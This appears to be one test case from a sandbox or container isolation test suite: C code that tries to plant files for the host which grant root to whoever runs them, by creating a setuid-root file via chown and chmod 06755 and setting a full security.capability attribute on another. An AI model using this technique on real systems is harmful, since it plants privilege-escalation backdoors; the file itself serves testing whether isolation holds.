// tries: leave a program for the host that makes whoever runs it root: a set-user-id file, a file with capabilities
// wall: permissions
// control: root
#include "attack.h"
ATTACK
{
    char path[256];
    long fd = sc(__NR_openat, AT(own(path, "planted")), O_RDWR | O_CREAT, 0755);
    if (!attempt("making a file", fd)) return;
    attempt("chown", sc(__NR_fchown, fd, 0, 0));
    attempt("chmod", sc(__NR_fchmod, fd, 06755));
    sc(__NR_close, fd);
    own(path, "planted_caps");
    fd = sc(__NR_openat, AT(path), O_RDWR | O_CREAT, 0755);
    sc(__NR_close, fd);
    // vfs_cap_data, version 2: effective, all that are permitted
    unsigned caps[5] = {0x02000001, ~0U, 0, 0x1ff, 0};
    attempt("setxattr", sc(__NR_setxattr, path, "security.capability", caps, sizeof caps, 0));
}
